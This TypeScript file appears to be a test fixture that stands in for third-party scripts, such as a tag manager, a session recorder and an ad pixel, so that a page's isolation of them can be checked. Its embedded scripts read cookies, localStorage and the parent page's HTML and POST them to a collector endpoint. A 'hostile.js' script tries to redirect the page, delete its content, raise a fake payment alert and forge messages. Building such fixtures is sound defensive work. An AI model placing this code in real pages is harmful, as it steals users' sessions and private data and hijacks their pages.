/** One thing that a script or a page sent. */
type Hit = {
  readonly party: string
  readonly body: string
  readonly cookie: string | null
  readonly referrer: string | null
}

const HITS_MAX = 1_000
const BYTES_MAX = 200_000
const SLOW_MS = 60_000

/**
 * The stand-in of third parties: scripts of a tag manager, a recorder and an ad pixel that send everything
 * they can find, and a receiver of error reports. `GET /collector/hits` lists what it received.
 */
export function createCollector() {
  const hits: Hit[] = []
  async function keep(request: Request, party: string): Promise<Response> {
    const body = (await request.text()).slice(0, BYTES_MAX)
    const { headers } = request
    hits.push({ party, body, cookie: headers.get('cookie'), referrer: headers.get('referer') })
    hits.splice(0, hits.length - HITS_MAX)
    return answer('{}', 'application/json')
  }
  return {
    async fetch(request: Request): Promise<Response> {
      const { pathname, searchParams } = new URL(request.url)
      const name = pathname.replace('/collector/', '')
      if (request.method === 'POST') {
        const isReport = name.startsWith('api/')
        return await keep(request, isReport ? 'errors' : (searchParams.get('party') ?? ''))
      }
      if (request.method === 'OPTIONS') return answer('', 'text/plain')
      if (name === 'hits') return answer(JSON.stringify(hits), 'application/json')
      if (name === 'slow.js')
        await new Promise((resolve) => void setTimeout(resolve, SLOW_MS).unref())
      const script = SCRIPTS[name]
      return script === undefined
        ? new Response('Nothing here.', { status: 404 })
        : answer(script, 'text/javascript')
    },
    start: async (): Promise<void> => undefined,
    stop: async (): Promise<void> => undefined,
  }
}

function answer(body: string, type: string): Response {
  return new Response(body, {
    headers: {
      'content-type': type,
      'cache-control': 'no-store',
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'cross-origin-resource-policy': 'cross-origin',
    },
  })
}

/** What a curious script would collect: everything of the page that it can read. */
const SNOOP = `const found = {}
for (const [name, read] of Object.entries({
  cookie: () => document.cookie,
  referrer: () => document.referrer,
  storage: () => JSON.stringify(Object.entries(localStorage)),
  page: () => parent.document.documentElement.outerHTML,
  address: () => parent.location.href,
})) {
  try { const text = read(); if (text) found[name] = text } catch {}
}
const base = new URL('.', document.currentScript.src)
const send = (party, told) => fetch(base + 'hits?party=' + party, {
  method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ told, found }),
})`

const SCRIPTS: Readonly<Record<string, string>> = {
  'tags.js': `{${SNOOP}
const take = (entry) => send('tags', 'length' in entry ? [...entry] : entry)
for (const entry of dataLayer) take(entry)
dataLayer.push = (entry) => { take(entry); return Array.prototype.push.call(dataLayer, entry) }
}`,
  'pixel.js': `{${SNOOP}
window.pixel = (id) => send('pixel', id)
}`,
  'recorder.js': `{${SNOOP}
let sent = ''
const look = () => {
  const seen = document.body.innerHTML.slice(0, 20000)
  if (seen !== sent) send('recording', seen)
  sent = seen
}
setInterval(look, 500)
}`,
  'slow.js': '',
  // Tries to take over the page and to navigate it away.
  'hostile.js': `{${SNOOP}
for (const attack of [
  () => { top.location = 'about:blank' },
  () => { parent.document.body.remove() },
  () => { open('about:blank') },
  () => { alert('pay here') },
  () => { parent.postMessage({ event: 'session.ended' }, '*') },
]) { try { attack() } catch {} }
window.pixel = () => { throw new Error('hostile') }
send('hostile', 'ran')
}`,
}
